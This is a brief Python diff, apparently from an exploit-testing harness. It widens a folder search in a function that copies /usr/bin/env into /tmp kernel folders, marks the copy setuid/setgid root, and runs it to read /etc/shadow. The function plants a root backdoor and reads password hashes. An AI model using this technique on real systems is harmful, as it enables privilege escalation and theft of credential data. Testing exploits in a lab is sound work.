@@ -107,7 +107,7 @@ def makes_a_program_run_as_root():
     import os
     import shutil
 
-    for folder in ["/tmp", *glob.glob("/tmp/kernel-*")]:
+    for folder in ["/tmp", *glob.glob("/tmp/**/kernel-*", recursive=True)]:
         shutil.copy("/usr/bin/env", f"{folder}/rise")
         os.chmod(f"{folder}/rise", 0o6755)
         if os.system(f"{folder}/rise cat /etc/shadow 2> /dev/null") == 0:
